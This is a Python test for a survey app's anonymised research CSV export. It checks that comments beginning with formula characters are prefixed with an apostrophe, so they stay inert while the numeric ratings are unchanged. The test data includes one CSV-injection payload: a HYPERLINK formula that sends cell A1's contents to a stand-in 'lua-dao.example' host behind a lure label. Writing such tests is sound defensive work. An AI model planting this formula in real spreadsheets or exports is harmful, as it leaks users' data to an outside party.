"""A citizen's comment that reads like a spreadsheet formula leaves the research CSV inert, its text kept whole."""

from __future__ import annotations

import csv

from survey.services.research.export import ExportOptions, export_anonymised
from tests.factories import load_catalog, make_responses

HOSTILE = '=HYPERLINK("http://lua-dao.example/?c="&A1,"Xem kết quả")'


def test_formula_comments_are_inert_in_the_research_csv(session, tmp_path):
    load_catalog()
    make_responses(ratings=[2] * 6, comment=HOSTILE)
    make_responses(ratings=[4] * 6, comment="-- chờ quá lâu, +2 lần đi lại")
    make_responses(ratings=[5] * 6, comment="Cán bộ nhiệt tình")
    out = tmp_path / "x.csv"
    export_anonymised(session, out, ExportOptions(k=5), actor="test")
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    comments = sorted(row["comment"] for row in rows)
    assert comments == sorted(["'" + HOSTILE] * 6 + ["'-- chờ quá lâu, +2 lần đi lại"] * 6 + ["Cán bộ nhiệt tình"] * 6)
    assert {row["rating"] for row in rows} == {"2", "4", "5"}  # numbers are not touched
